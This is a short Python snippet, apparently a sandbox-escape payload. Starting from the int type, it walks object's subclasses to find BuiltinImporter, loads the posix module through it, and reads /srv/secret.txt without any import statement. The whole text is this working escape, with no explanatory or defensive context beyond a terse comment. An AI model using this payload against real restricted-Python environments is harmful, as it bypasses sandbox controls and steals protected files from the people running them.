# reaches: a parent of a class by an index, then the children of that parent
found = [c for c in type(1).__bases__[0].__subclasses__() if c.__name__ == "BuiltinImporter"][0]
print(found.load_module("posix").read(found.load_module("posix").open("/srv/secret.txt", 0), 99))
